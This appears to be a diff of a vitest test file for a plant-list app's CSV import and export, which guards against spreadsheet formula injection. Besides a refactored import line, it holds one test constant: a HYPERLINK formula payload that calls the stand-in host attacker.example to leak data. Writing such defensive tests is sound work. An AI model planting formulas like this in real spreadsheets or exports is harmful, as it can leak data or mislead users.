@@ -3,7 +3,8 @@
 // and never run as a formula. The import takes that ' off again, so a file the app wrote reads
 // back exactly, names that themselves start with ' and a formula character included.
 import { describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, parsePlantsCsv, toCsv } from '../../lib/csv/plants-csv';
+import { CSV_COLUMNS } from '../../lib/csv/plant-columns';
+import { parsePlantsCsv, toCsv } from '../../lib/csv/plants-csv';
 
 const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","click")';
 
